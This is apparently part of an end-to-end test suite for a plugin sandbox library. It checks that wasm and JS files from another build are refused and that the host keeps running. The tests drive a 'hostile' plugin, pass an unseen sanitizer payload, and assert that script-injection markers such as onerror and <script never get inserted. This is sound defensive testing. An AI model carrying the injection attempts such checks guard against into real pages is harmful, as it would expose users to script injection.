      assert.match(failed[0].message, /did not answer the host's pings for \d+ ms \(limits\.unresponsiveAfterMs = 1000\)/);
      assert.deepEqual(failed[1], { state: 'mounted' }, 'the plugin that kept answering was failed too');
      // Its frame is gone; the audit heard of it; the other plugin is served.
      assert.equal(await page.evaluate(() => document.querySelectorAll('iframe').length), 1);
      const audited = await page.evaluate(() => window.e2e.state.audits.filter((e) => e.kind === 'failure' && e.plugin === 'hostile').map((e) => e.code));
      assert.deepEqual(audited, ['TIMEOUT']);
      const notes = await pluginFrame(page, 'notes', { state: 'connected' });
      assert.equal((await notes.evaluate(() => window.notes.run('storage.get', 'note'))).ok, true);
      // Nothing was loaded for it: no request, synchronous or not, for the second part.
      assert.deepEqual(seen, []);
      assert.equal(count(host.requests(), CHECKS_WASM), 0);
      assert.deepEqual(await page.evaluate(() => window.syncRequests), [], 'a synchronous request');
      assert.equal(await page.evaluate(async () => (await import('/pkg/index.js')).__pw_checksLoaded()), false);
      assert.deepEqual(errors, []);
    } finally {
      await host.close();
    }
  }
});

// This build's id (scripts/package-build.mjs): the last 12 bytes of each wasm file, its section.
const BUILD = readFileSync(new URL('../../pkg/plugin_warden_bg.wasm', import.meta.url)).subarray(-12).toString('latin1');

/**
 * `body` (a file of this build) as the same file of another build: where it names this build
 * (a wasm file's `pw` custom section, a JS module's `__pw_build`), it names another, as a file
 * built from other sources would.
 */
function ofAnotherBuild(body) {
  const text = body.toString('latin1');
  assert.ok(/^[0-9a-f]{12}$/.test(BUILD) && text.includes(BUILD), 'the file names its build');
  return Buffer.from(text.replaceAll(BUILD, '000000000000'), 'latin1');
}

/** Serve `path` in `page` as the same file of another build until the function this answers is called. */
async function serveOtherBuild(page, path, seen) {
  let other = true;
  await page.route(`**${path}`, async (route) => {
    seen.push(other ? `${path} other build` : `${path} server`);
    if (!other) return route.continue();
    const response = await route.fetch();
    return route.fulfill({ response, body: ofAnotherBuild(await response.body()) });
  });
  return () => { other = false; };
}

const STALE = (what) => new RegExp(`plugin-warden: ${what} is from another build of the package: reload the page`);
const ATTEMPT = `(f) => { try { return { ok: true, value: f() }; } catch (e) { return { ok: false, name: e.name, code: e.code, message: e.message }; } }`;
const SETTLE = `(p) => p.then(() => ({ ok: true }), (e) => ({ ok: false, name: e.name, code: e.code, message: e.message }))`;

test('a wasm part fetched from another build of the package (updated at its URL while the page was open) is refused, never run beside this page\'s: the core\'s second part (a synchronous load and a preload: MODULE_NOT_LOADED, the host goes on), the sanitizer module (preload, trustedHTML and a shadow mount insert nothing), the sanitizer\'s second part; this build\'s files load after', async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    await captureShadowRoots(page);
    const seen = [];
    const checksBack = await serveOtherBuild(page, CHECKS_WASM, seen);
    const sanitizerBack = await serveOtherBuild(page, SANITIZER_WASM, seen);
    const stale = await page.evaluate(async ({ bad, payload, ATTEMPT, SETTLE }) => {
      const attempt = eval(ATTEMPT);
      const settle = eval(SETTLE);
      const pkg = await import('/pkg/index.js');
      const out = {};
      out.sync = attempt(() => pkg.validateManifest(bad));
      out.preload = await settle(pkg.preload('checks'));
      out.checksLoaded = pkg.__pw_checksLoaded();
      out.hostGoesOn = attempt(() => window.e2e.host.hasPermission('plugins:read'));
      out.sanitizer = await settle(window.e2e.host.preload('sanitizer'));
      out.trusted = attempt(() => String(window.e2e.host.trustedHTML(payload)));
      await window.e2e.install({ id: 'stale-panel', name: 'Panel', permissions: [] });
      window.e2e.mountWith('stale-panel', { mode: 'shadow', html: payload });
      out.shadow = await window.e2e.settled('stale-panel');
      await new Promise((res) => setTimeout(res, 300));
      out.roots = window.__roots.map((root) => root.innerHTML);
      out.pwned = window.__pwned ?? null;
      return out;
    }, { bad: BAD_MANIFEST, payload: PAYLOAD, ATTEMPT, SETTLE });
    for (const key of ['sync', 'preload', 'sanitizer', 'trusted']) {
      assert.equal(stale[key].ok, false, `${key}: ${JSON.stringify(stale[key])}`);
      assert.equal(stale[key].code, 'MODULE_NOT_LOADED', `${key}: ${JSON.stringify(stale[key])}`);
      assert.equal(stale[key].name, 'PluginWardenError');
    }
    assert.match(stale.sync.message, new RegExp(`^${STALE('the rest of the core module').source}$`));
    assert.match(stale.preload.message, new RegExp(`^${STALE('the rest of the core module').source}$`));
    assert.match(stale.sanitizer.message, /could not load the sanitizer module: plugin-warden: the wasm is from another build of the package: reload the page \(not its script's\)/);
    assert.equal(stale.checksLoaded, false);
    assert.deepEqual(stale.hostGoesOn, { ok: true, value: false }, 'the host goes on after the refusals');
    assert.equal(stale.shadow.ok, false, JSON.stringify(stale.shadow));
    assert.equal(stale.shadow.error.code, 'MODULE_NOT_LOADED', JSON.stringify(stale.shadow));
    assert.match(stale.shadow.error.message, /the wasm is from another build of the package/);
    assert.ok(stale.roots.every((html) => !/onerror|onload|<script|<svg|kept/i.test(html)), `inserted: ${JSON.stringify(stale.roots)}`);
    assert.equal(stale.pwned, null, 'a payload handler ran');
    assert.ok(!seen.some((s) => s.endsWith('server')), JSON.stringify(seen));

    // The same page with this build's files: they load, and the calls answer.
    checksBack();
    sanitizerBack();
    const fixed = await page.evaluate(async ({ bad, payload, ATTEMPT, SETTLE }) => {
      const attempt = eval(ATTEMPT);
      const settle = eval(SETTLE);
      const pkg = await import('/pkg/index.js');
      return {
        checks: await settle(pkg.preload('checks')),
        again: attempt(() => pkg.validateManifest(bad).valid),
        sanitizer: await settle(window.e2e.host.preload('sanitizer')),
        trusted: attempt(() => String(window.e2e.host.trustedHTML(payload))),
      };
    }, { bad: BAD_MANIFEST, payload: PAYLOAD, ATTEMPT, SETTLE });
    assert.deepEqual(fixed.checks, { ok: true });
    assert.deepEqual(fixed.again, { ok: true, value: false });
    assert.deepEqual(fixed.sanitizer, { ok: true });
    assert.equal(fixed.trusted.ok, true, JSON.stringify(fixed.trusted));
    assert.ok(fixed.trusted.value.includes(CLEAN) && !/onerror|onload|<script|<svg/.test(fixed.trusted.value), fixed.trusted.value);
  } finally {
    await host.close();
  }

  // The sanitizer's second part, on a fresh page whose sanitizer is this build's.
  const rest = await freshHost();
  try {
    const seen = [];
    const back = await serveOtherBuild(rest.page, REST_WASM, seen);
    const run = () => rest.page.evaluate(async ({ idn, SETTLE }) => {
      const settle = eval(SETTLE);
      const pkg = await import('/pkg/index.js');
      const preload = await settle(pkg.preload('sanitizer-rest'));
      let sync;
      try {
        sync = { ok: true, out: pkg.sanitize(idn) };
      } catch (e) {
        sync = { ok: false, code: e.code, message: e.message };
      }
      return { preload, sync };
    }, { idn: IDN, SETTLE });
    const refused = await run();
    assert.equal(refused.preload.code, 'MODULE_NOT_LOADED', JSON.stringify(refused));
    assert.match(refused.preload.message, new RegExp(`^${STALE('the rest of the sanitizer module').source}$`));
    assert.equal(refused.sync.ok, false, JSON.stringify(refused.sync));
    assert.equal(refused.sync.code, 'MODULE_NOT_LOADED');
    assert.match(refused.sync.message, STALE('the rest of the sanitizer module'));
    back();
    const served = await run();
    assert.deepEqual(served.preload, { ok: true }, JSON.stringify(served));
    assert.equal(served.sync.ok, true, JSON.stringify(served.sync));
    assert.match(served.sync.out, /<a href="[^"]+"[^>]*>b\u00fccher<\/a>/);
    assert.ok(seen.some((s) => s.endsWith('other build')) && seen.some((s) => s.endsWith('server')), JSON.stringify(seen));
  } finally {
    await rest.close();
  }
});

test('the entry\'s own files of another build are refused before they run: the core\'s wasm at init() (NOT_INITIALIZED), the mounts apart (a srcdoc mount fails MODULE_NOT_LOADED) and the IndexedDB store (the mount rejects MODULE_NOT_LOADED); the host goes on', async () => {
  // init() with a core wasm of another build than the entry's glue, on a page that has not run it.
  const context = await env.browser.newContext();
  try {
    const page = await context.newPage();
    const blank = `${env.servers.hostOrigin}/lazy-blank.html`;
    await page.route(blank, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>blank</title>' }));
    const seen = [];
    const back = await serveOtherBuild(page, '/pkg/plugin_warden_bg.wasm', seen);
    await page.goto(blank);
    const init = () => page.evaluate(async (SETTLE) => eval(SETTLE)((await import('/pkg/index.js')).default()), SETTLE);
    const refused = await init();
    assert.equal(refused.code, 'NOT_INITIALIZED', JSON.stringify(refused));
    assert.match(refused.message, /init\(\) could not load the wasm module from \S+plugin_warden_bg\.wasm: plugin-warden: the wasm is from another build of the package: reload the page/);
    back();
    assert.deepEqual(await init(), { ok: true }, 'init() with this build\'s wasm');
    assert.deepEqual(seen, ['/pkg/plugin_warden_bg.wasm other build', '/pkg/plugin_warden_bg.wasm server']);
  } finally {
    await context.close();
  }

  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await serveOtherBuild(page, '/pkg/mounts.js', seen);
    await serveOtherBuild(page, IDB_JS, seen);
    const r = await page.evaluate(async () => {
      await window.e2e.install({ id: 'inline', name: 'Inline', permissions: [] });
      window.e2e.mountWith('inline', { srcdoc: '<!doctype html><p>inline</p><script>pluginWarden.connect()</script>' });
      const srcdoc = await window.e2e.settled('inline');
      await window.e2e.install({ id: 'framed', name: 'Framed', permissions: [] });
      const framed = await window.e2e.mountAndWait('framed', '/hello/');
      window.e2e.create({ storage: 'indexeddb' });
      await window.e2e.install(window.e2e.manifests.notes);
      const stored = await window.e2e.mountAndWait('notes', '/notes/');
      return { srcdoc, framed: framed.ok, stored };
    });
    assert.equal(r.srcdoc.ok, false, JSON.stringify(r.srcdoc));
    assert.equal(r.srcdoc.error.code, 'MODULE_NOT_LOADED', JSON.stringify(r.srcdoc));
    assert.match(r.srcdoc.error.message, STALE('\\./mounts\\.js'));
    assert.equal(r.framed, true, 'a src mount after the refusal');
    assert.equal(r.stored.ok, false, JSON.stringify(r.stored));
    assert.equal(r.stored.error.code, 'MODULE_NOT_LOADED', JSON.stringify(r.stored));
    assert.match(r.stored.error.message, STALE('\\./idb\\.js'));
    assert.deepEqual(seen, ['/pkg/mounts.js other build', `${IDB_JS} other build`]);
  } finally {
    await host.close();
  }
});

test('the API client\'s request (pkg/fetch.js) of another build is refused before it runs: the plugin\'s request fails NETWORK_ERROR naming the file and reaches no server; the host and the plugin go on', { timeout: 60_000 }, async () => {
  const host = await freshHost();
  try {
    const { page } = host;
    const seen = [];
    await serveOtherBuild(page, FETCH_JS, seen);
    const api = env.servers.apiOrigin;
    const hostile = await mountHostileWithApi(page);
    env.servers.apiRequests.length = 0;
    for (let i = 0; i < 2; i++) {
      const refused = await attack(hostile, 'send', ['api.fetch', { url: `${api}/api/quotes` }]);
      assert.equal(codeOf(refused), 'NETWORK_ERROR', JSON.stringify(refused));
      assert.match(refused.reply.error.message, /fetch\.js could not be loaded: it is from another build of the package: reload the page/);
    }
    assert.deepEqual(env.servers.apiRequests, [], 'a request reached the API server');
    assert.ok(seen.length >= 1 && seen.every((s) => s.endsWith('other build')), JSON.stringify(seen));
    assert.equal(codeOf(await attack(hostile, 'send', ['permissions.list', {}])), 'ok');
  } finally {
    await host.close();
  }
});
